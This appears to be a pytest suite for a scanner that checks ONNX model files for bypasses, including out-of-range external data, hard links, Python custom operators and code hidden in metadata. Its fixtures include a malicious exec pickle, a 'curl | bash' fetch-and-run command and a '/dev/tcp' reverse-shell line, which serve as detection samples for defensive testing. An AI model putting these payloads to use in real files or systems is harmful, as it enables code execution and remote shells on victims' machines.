"""Reported ONNX bypasses: external data ranges and hard links, Python and custom-domain
operators resolved against model functions, and code carried by metadata and attributes.

Models are written by the real onnx (helper, numpy_helper, save_model with external data);
only external_data entries that onnx's own writer refuses are set field by field.
"""

from __future__ import annotations

import base64
import hashlib
import os
import pickle
from pathlib import Path

import pytest

onnx = pytest.importorskip("onnx")
np = pytest.importorskip("numpy")

from fixtures.mlscan import describe, scan_file, serious  # noqa: E402
from onnx import TensorProto, helper, numpy_helper  # noqa: E402
from unit.test_onnx import benign_model  # noqa: E402

from hexscan.model.finding import Finding  # noqa: E402
from hexscan.model.severity import Severity  # noqa: E402


def _external_model(directory: Path, entries: dict[str, str], length: int = 64,
                    data: bytes | None = b"\x01" * 64, name: str = "model.onnx") -> Path:
    """A model whose one initializer lives in external data described by ``entries``."""
    directory.mkdir(parents=True, exist_ok=True)
    t = TensorProto(name="w", data_type=TensorProto.UINT8, dims=[length])
    t.data_location = TensorProto.EXTERNAL
    for key, value in entries.items():
        entry = t.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [],
                              [helper.make_tensor_value_info("y", TensorProto.UINT8, [length])],
                              initializer=[t])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    path = directory / name
    path.write_bytes(model.SerializeToString())
    if data is not None and "location" in entries and "/" not in entries["location"]:
        target = directory / entries["location"]
        if not target.exists():
            target.write_bytes(data)
    return path


def _hits(path: Path, rule: str) -> list[Finding]:
    return [f for f in scan_file(path).findings if f.rule.id == rule]


# --------------------------------------------------------------------- external data


def test_real_external_data_is_quiet(tmp_path: Path) -> None:
    model = benign_model(floats=512)
    onnx.save_model(model, str(tmp_path / "m.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location="m.onnx.data", size_threshold=0)
    result = scan_file(tmp_path / "m.onnx")
    assert not serious(result), describe(result.findings)
    loaded = onnx.load(str(tmp_path / "m.onnx"))  # onnx itself accepts the same files
    assert len(loaded.graph.initializer) == 2


@pytest.mark.parametrize(("offset", "length", "reason"), [
    ("0", "100", "past-end"), ("60", "8", "past-end"), ("100", None, "past-end"),
    ("-8", "64", "negative-offset"), ("0", "-1", "negative-length"),
    (str(2 ** 64 - 8), "64", "overflow-offset"), ("0", str(2 ** 63), "overflow-length"),
])
def test_range_outside_the_file_is_high(tmp_path: Path, offset: str, length: str | None,
                                        reason: str) -> None:
    entries = {"location": "w.bin", "offset": offset}
    if length is not None:
        entries["length"] = length
    hits = _hits(_external_model(tmp_path, entries), "HEX-ONX-006")
    assert any(f.evidence["reason"] == reason and f.effective_severity >= Severity.HIGH
               for f in hits), describe(hits)


def test_range_within_the_file_is_quiet(tmp_path: Path) -> None:
    path = _external_model(tmp_path, {"location": "w.bin", "offset": "0", "length": "64"})
    assert not serious(scan_file(path))


def test_odd_number_spelling_is_medium(tmp_path: Path) -> None:
    hits = _hits(_external_model(tmp_path, {"location": "w.bin", "offset": "+0",
                                            "length": "64"}), "HEX-ONX-006")
    assert [f.effective_severity for f in hits] == [Severity.MEDIUM]


def test_overlapping_ranges_and_the_model_file_itself(tmp_path: Path) -> None:
    t1 = numpy_helper.from_array(np.ones(16, dtype=np.float32), "a")
    t2 = numpy_helper.from_array(np.ones(16, dtype=np.float32), "b")
    for t, offset in ((t1, 0), (t2, 32)):
        onnx.external_data_helper.set_external_data(t, "w.bin", offset=offset, length=64)
        t.ClearField("raw_data")
    graph = helper.make_graph([helper.make_node("Add", ["a", "b"], ["y"])], "g", [],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [16])],
                              initializer=[t1, t2])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    (tmp_path / "w.bin").write_bytes(b"\x00" * 96)
    (tmp_path / "m.onnx").write_bytes(model.SerializeToString())
    hits = _hits(tmp_path / "m.onnx", "HEX-ONX-006")
    assert [f.evidence["reason"] for f in hits] == ["overlap"]
    assert hits[0].effective_severity is Severity.MEDIUM
    own = _hits(_external_model(tmp_path / "own", {"location": "model.onnx", "length": "8"},
                                length=8), "HEX-ONX-006")
    assert [f.evidence["reason"] for f in own] == ["model-file"]


def test_checksum_is_verified(tmp_path: Path) -> None:
    data = b"\x01" * 64
    good = hashlib.sha1(data, usedforsecurity=False).hexdigest()
    quiet = _external_model(tmp_path / "good", {"location": "w.bin", "length": "64",
                                                "checksum": good})
    assert not _hits(quiet, "HEX-ONX-006")
    swapped = _external_model(tmp_path / "bad", {"location": "w.bin", "length": "64",
                                                 "checksum": "0" * 40})
    hits = _hits(swapped, "HEX-ONX-006")
    assert [f.evidence["reason"] for f in hits] == ["checksum"]
    assert hits[0].effective_severity is Severity.MEDIUM


def test_hard_link_to_a_file_outside_is_high(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"s" * 64)
    model_dir = tmp_path / "model"
    path = _external_model(model_dir, {"location": "w.bin", "length": "64"}, data=None)
    os.link(secret, model_dir / "w.bin")
    hits = _hits(path, "HEX-ONX-001")
    assert hits and "hard links" in hits[0].message, describe(hits)
    assert hits[0].effective_severity is Severity.HIGH


def test_hub_cache_symlinks_to_own_blobs_are_quiet(tmp_path: Path) -> None:
    """The hub client stores every file as a blob and links it from the snapshot."""
    repo = tmp_path / "hub" / "models--org--net"
    (repo / "blobs").mkdir(parents=True)
    (repo / "blobs" / "a1b2").write_bytes(b"\x01" * 64)
    (tmp_path / "elsewhere.bin").write_bytes(b"\x01" * 64)
    snapshot = repo / "snapshots" / "0123abcd"
    good = _external_model(snapshot, {"location": "w.bin", "length": "64"}, data=None)
    (snapshot / "w.bin").symlink_to(repo / "blobs" / "a1b2")
    assert not serious(scan_file(good)), describe(scan_file(good).findings)
    (snapshot / "w.bin").unlink()
    (snapshot / "w.bin").symlink_to(tmp_path / "elsewhere.bin")
    assert _hits(good, "HEX-ONX-001")


def test_ort_memory_address_location_is_high(tmp_path: Path) -> None:
    path = _external_model(tmp_path, {"location": "*/_ORT_MEM_ADDR_/*", "offset": "4096",
                                      "length": "64"}, data=None)
    hits = _hits(path, "HEX-ONX-001")
    assert hits and "process address" in hits[0].message


def test_fifo_as_external_data_is_high(tmp_path: Path) -> None:
    path = _external_model(tmp_path, {"location": "w.bin", "length": "64"}, data=None)
    os.mkfifo(tmp_path / "w.bin")
    hits = _hits(path, "HEX-ONX-001")
    assert hits and "regular file" in hits[0].message


# --------------------------------------------------------------------- operators


def test_python_custom_op_of_onnxruntime_extensions_is_critical(tmp_path: Path) -> None:
    model = benign_model()
    model.graph.node.append(helper.make_node("PyCustomOp", ["y"], ["z"], name="py",
                                             domain="ai.onnx.contrib"))
    onnx.save_model(model, str(tmp_path / "m.onnx"))
    hits = _hits(tmp_path / "m.onnx", "HEX-ONX-002")
    assert [f.effective_severity for f in hits] == [Severity.CRITICAL]


def test_custom_op_implemented_by_a_model_function_is_resolved(tmp_path: Path) -> None:
    fn = helper.make_function("com.example", "Scale2", ["x"], ["y"],
                              [helper.make_node("Add", ["x", "x"], ["y"])],
                              [helper.make_opsetid("", 17)])
    model = benign_model()
    model.graph.node.append(helper.make_node("Scale2", ["y"], ["z"], domain="com.example"))
    model.graph.node.append(helper.make_node("Unknown", ["z"], ["u"], domain="com.example"))
    model.functions.append(fn)
    model.opset_import.append(helper.make_opsetid("com.example", 1))
    onnx.save_model(model, str(tmp_path / "m.onnx"))
    hits = _hits(tmp_path / "m.onnx", "HEX-ONX-003")
    assert [f.evidence["op_type"] for f in hits] == ["Unknown"]
    assert hits[0].effective_severity is Severity.MEDIUM


# --------------------------------------------------------------------- metadata


class _Exec:
    def __reduce__(self) -> tuple[object, ...]:
        return exec, ("print(1)",)


_PICKLE = pickle.dumps(_Exec(), protocol=4)

_CODE_VALUES = {
    "pickle-b64": base64.b64encode(_PICKLE).decode(),
    "pickle-hex": _PICKLE.hex(),
    "python": "import os\nos.system('id')\n",
    "python-alias": "from subprocess import check_output as co\nco(['id'])",
    "python-exec": "exec(compile(src, 'x', 'exec'))",
    "shell": "curl -s http://example.invalid/x.sh | bash",
    "shell-devtcp": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
}


@pytest.mark.parametrize("where", ["metadata", "model-doc", "graph-doc", "node-doc",
                                   "attribute"])
@pytest.mark.parametrize("kind", sorted(_CODE_VALUES))
def test_code_in_metadata_and_attributes_is_high(tmp_path: Path, where: str,
                                                 kind: str) -> None:
    value = _CODE_VALUES[kind]
    model = benign_model()
    if where == "metadata":
        helper.set_model_props(model, {"preprocess": value})
    elif where == "model-doc":
        model.doc_string = value
    elif where == "graph-doc":
        model.graph.doc_string = value
    elif where == "node-doc":
        model.graph.node[0].doc_string = value
    else:
        model.graph.node.append(helper.make_node("Hook", ["y"], ["z"], domain="com.example",
                                                 script=value))
    onnx.save_model(model, str(tmp_path / "m.onnx"))
    hits = _hits(tmp_path / "m.onnx", "HEX-ONX-007")
    assert hits and hits[0].effective_severity is Severity.HIGH, describe(hits)


def test_raw_pickle_bytes_in_a_string_attribute_is_high(tmp_path: Path) -> None:
    model = benign_model()
    model.graph.node.append(helper.make_node("Hook", ["y"], ["z"], domain="com.example",
                                             blob=_PICKLE))
    onnx.save_model(model, str(tmp_path / "m.onnx"))
    hits = _hits(tmp_path / "m.onnx", "HEX-ONX-007")
    assert hits and "pickle" in hits[0].message


@pytest.mark.parametrize("value", [
    "Exported from PyTorch. Usage: y = model(x); see https://example.invalid/docs",
    '{"labels": ["cat", "dog"], "mean": [0.485, 0.456, 0.406]}',
    "d41d8cd98f00b204e9800998ecf8427e",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "def preprocess(x):\n    return (x - 0.5) / 0.25\n",
    "torch.onnx.export(model, (x,), 'model.onnx', opset_version=17)",
    "sh: run `python infer.py` to evaluate",
    "Install: chmod +x run.sh, then run it with /bin/sh run.sh --model model.onnx",
    "/usr/lib/python3/site-packages/torch/nn/functional.py(2210): linear\nmodel.py(56): forward",
])
def test_ordinary_metadata_is_quiet(tmp_path: Path, value: str) -> None:
    model = benign_model()
    helper.set_model_props(model, {"note": value})
    model.doc_string = value
    onnx.save_model(model, str(tmp_path / "m.onnx"))
    result = scan_file(tmp_path / "m.onnx")
    assert not serious(result), describe(result.findings)
